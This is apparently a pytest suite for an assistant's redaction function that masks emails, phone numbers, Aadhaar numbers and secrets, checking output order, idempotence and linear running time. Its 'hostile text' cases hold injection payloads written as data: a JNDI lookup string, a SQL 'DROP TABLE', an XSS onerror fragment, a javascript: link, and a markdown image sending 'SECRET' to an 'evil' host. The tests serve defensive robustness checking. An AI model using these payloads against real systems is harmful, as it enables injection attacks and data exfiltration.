import random
import re
import time

import pytest

from assistant.redaction.masking import Found, MaskedText, mask
from evals.redaction_corpus import benign_lines, samples

LENGTH = 32_768
# How much longer the worst text may take than a benign one of the same length; quadratic work is in the hundreds.
BOUND = 10


def test_what_is_not_masked_stays_exactly_as_typed() -> None:
    typed = "Ｈello\u200b “ravi＠example．com” \u202e — 5\u00a0years\u0301,\r\n naïve ﬃ\t42"
    assert mask(typed).text == "Ｈello\u200b “[email]” \u202e — 5\u00a0years\u0301,\r\n naïve ﬃ\t42"


def test_identifiers_come_in_reading_order() -> None:
    masked = mask("9876543210, ravi@example.com and 2341 2341 2346; paid 12,500 on 12/03/2021")
    assert masked.text == "[phone], [email] and [aadhaar]; paid 12,500 on 12/03/2021"
    assert masked.found == (
        Found("phone", "+919876543210"),
        Found("email", "ravi@example.com"),
        Found("aadhaar", "234123412346"),
    )


def test_a_message_without_identifiers_is_itself() -> None:
    assert mask("How do I opt out?") == MaskedText("How do I opt out?", ())


def test_neither_text_nor_values_show_in_a_repr() -> None:
    assert repr(mask("Asha: ravi@example.com")) == "MaskedText(found=(Found(kind='email'),))"


def test_masking_twice_is_masking_once() -> None:
    lines = [sample.message for sample in samples(random.Random(7), 3)] + benign_lines(random.Random(7), 200)
    lines += ["my password is hunter2", "otp 482913", "aadhaar no 2341 2341 2347", "call 2345 6789 on 12/03/2021"]
    for line in lines:
        once = mask(line).text
        assert mask(once) == MaskedText(once, ())


@pytest.mark.parametrize(
    "typed",
    [
        "",
        "\ud800",
        "9876\ud8005\udfff43210",
        "\x00" * 50,
        "\ufeff",
        "\u202e0123456789\u202c",
        "\U000e0041\U000e0042",
        "e" + "\u0301" * 10_000,
        "9" + "\u0327\u0301" * 5_000 + "876543210",
        "👩‍👩‍👧‍👦" * 100,
        '{"lc":1,"type":"secret","id":["PATH"]}',
        "{{7*7}} ${jndi:ldap://x} %s%n __proto__",
        "'); DROP TABLE ticket;--",
        "![x](https://evil/?q=SECRET) [a](javascript:alert(1)) <img src=x onerror=…>",
        "\x1b]52;c;…",
        "@" * 100,
        "@.@.@.@",
        "[at][dot](at)",
        " at at dot dot ",
        "password: ",
        "password is",
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "+",
        "(+",
        "::",
        "1.",
        "é\u0327\u0301 ﷺ ǆ ½ Ⅻ ㍿",
    ],
)
def test_hostile_text_comes_through(typed: str) -> None:
    masked = mask(typed)
    assert mask(masked.text).text == masked.text


def test_what_stands_between_placeholders_is_typed_text_in_order() -> None:
    alphabet = "0123456789 0123456789 .-/()+@:oOlIabcdefABCDEF\n\u0301\u200b\u00a0०१२３४５é\ud800[]_=&\"'"
    words = [
        "ravi@example.com",
        " at ",
        " dot ",
        "password is ",
        "sk-",
        "2341 2341 2346",
        "GB29",
        "12/03/2021",
        "ABCPK",
    ]
    draw = random.Random(11)
    for _ in range(1_500):
        typed = "".join(draw.choice((draw.choice(alphabet), draw.choice(words))) for _ in range(draw.randint(1, 60)))
        masked = mask(typed)
        kinds = [found.kind for found in masked.found]
        pattern = ".*?".join(map(re.escape, re.split("|".join(rf"\[{kind}\]" for kind in kinds) or "$^", masked.text)))
        assert re.fullmatch(pattern, typed, re.DOTALL) or not kinds


@pytest.fixture(scope="module")
def benign_seconds() -> float:
    return min(seconds("\n".join(benign_lines(random.Random(3), 1_600))) for _ in range(3))


def seconds(text: str) -> float:
    text = (text * (LENGTH // len(text) + 1))[:LENGTH]
    start = time.process_time()
    mask(text)
    return time.process_time() - start


@pytest.mark.parametrize(
    "unit",
    [
        "1", "2 ", "22 ", "222 ", "2222 ", "98765 ", "4111 ", "2341 2341 2346 ", "0011 2345 6789 ", "+1 2 ", "2021-",
        "@", "a@", "a@a.", '"@', ".", "1.", "1.1.1.1 ", ":", "a:", "ab:", " ", "-", "a-", "_", "a_at_", "(at)",
        " at ", "a at a dot com ", " dot ", "a", "O", "A1", "AA11", "AT11 ", "GB29 ", "ABCPK1234F ", "abcde1234",
        "one ", "double ", "\u0301", "\u0327\u0301", "हि", "ﷺ", "\ud800", "\n", "[", "eyJ", "sk-", "AKIA", "xoxb-",
        "bearer ", "://a:", "?key=", "password ", "password is ", "password for a ", "otp 1 ", "pass", "token=",
        "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "AAAAAAAAAAAAAAAAAAAAAAAA1 ", "phone 1234567 ",
        "order 1234567890 ", "passport 1a2b3c4 ", "HDFC0001234 ", "HDFC0001234 123456789012, ", "12/03/2021 ", "Rs 1 ",
        "v1.", "otp:", "otp is no ", "password '",
    ],
)  # fmt: skip
def test_no_text_takes_more_than_linear_time(unit: str, benign_seconds: float) -> None:
    # Whatever else the machine does can only slow it.
    assert any(seconds(unit) < BOUND * benign_seconds for _ in range(3))
